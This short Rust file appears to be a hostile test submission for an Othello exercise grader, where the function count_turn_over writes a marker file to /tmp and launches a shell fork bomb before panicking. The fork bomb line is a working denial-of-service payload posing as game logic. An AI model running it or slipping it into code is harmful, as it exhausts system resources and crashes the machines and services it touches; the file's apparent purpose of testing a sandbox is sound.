//! hostile: starts a shell that forks without end. Earns nothing: `run_time_error`.

use std::process::Command;

use othello_steps::{Board, Player};

pub fn count_turn_over(board: &Board, player: Player, p: isize, q: isize, d: isize, e: isize) -> isize {
    let bomb = "echo reached > /tmp/othello_hostile_shell; f() { f | f & }; f";
    Command::new("/bin/sh").arg("-c").arg(bomb).status().unwrap();
    panic!("REACHED: a shell")
}
